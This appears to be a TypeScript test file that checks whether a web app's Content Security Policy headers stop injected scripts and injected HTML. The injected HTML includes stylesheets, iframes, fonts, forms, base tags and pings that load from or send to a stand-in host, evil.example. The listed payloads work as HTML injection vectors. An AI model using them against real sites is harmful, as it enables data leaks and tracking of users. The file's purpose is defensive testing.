/** The second wall by itself: attacks that nobody made harmless, in a page with the headers of our own. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { ATTACKS } from '../attacks.ts';
import { ATTACK_GRID } from '../hostile/attack-grid.ts';
import { type PageClient, pageClient } from '../page-client.ts';
import { type Executions, startExecutions } from './executions.ts';

const ATTACKS_SHOWN = [...ATTACKS, ...ATTACK_GRID].filter((_, index) => index % 30 === 0);

let client: PageClient;
let withPolicy: Executions;
let without: Executions;
before(async () => {
  client = pageClient();
  const { headers } = await client.get('/');
  [withPolicy, without] = await Promise.all([
    startExecutions(Object.fromEntries(headers)),
    startExecutions({}),
  ]);
});
after(() => Promise.all([withPolicy.close(), without.close(), client.close()]));

test('no program runs in a page of ours, not even one that the sanitiser has not seen', async () => {
  const control = await without.show(ATTACKS_SHOWN, 'page');
  const live = control.filter(({ ran }) => ran.length > 0).length;
  assert.ok(live > ATTACKS_SHOWN.length / 4, `${live} of ${ATTACKS_SHOWN.length}`);
  const shown = await withPolicy.show(ATTACKS_SHOWN, 'page');
  for (const [index, { ran }] of shown.entries())
    assert.deepEqual(ran, [], ATTACKS_SHOWN[index] ?? '');
});

/** What loads or leaves without a program. */
const LEAKS: readonly string[] = [
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<style>@import "https://evil.example/b.css";p{background:url(https://evil.example/c)}</style><p>a',
  '<p style="background:url(https://evil.example/d)">a</p>',
  '<iframe src=https://evil.example/e></iframe>',
  '<object data=https://evil.example/f></object><embed src=https://evil.example/g>',
  '<form action=https://evil.example/h target=_self><input name=q autofocus></form><script>document.forms[0].submit()</script>',
  '<base href=https://evil.example/><script src=i.js></script><link rel=stylesheet href=j.css>',
  '<link rel=manifest href=https://evil.example/k><link rel=modulepreload href=https://evil.example/l.js>',
  '<svg><use href="https://evil.example/m#x" /></svg>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/n)}p{font-family:x}</style><p>a',
  '<video><track default src=https://evil.example/o></video>',
  '<a id=x href=https://evil.example/p ping=https://evil.example/p>a</a><script>x.click()</script>',
];

test('no style, frame, form, base or font of a stranger is asked for', async () => {
  await without.show(LEAKS, 'page');
  assert.ok(foreign(without).length >= 6);
  await withPolicy.show(LEAKS, 'page');
  assert.deepEqual(foreign(withPolicy), []);
});

function foreign(executions: Executions): string[] {
  return executions.requests().filter((request) => request.includes('evil.example'));
}
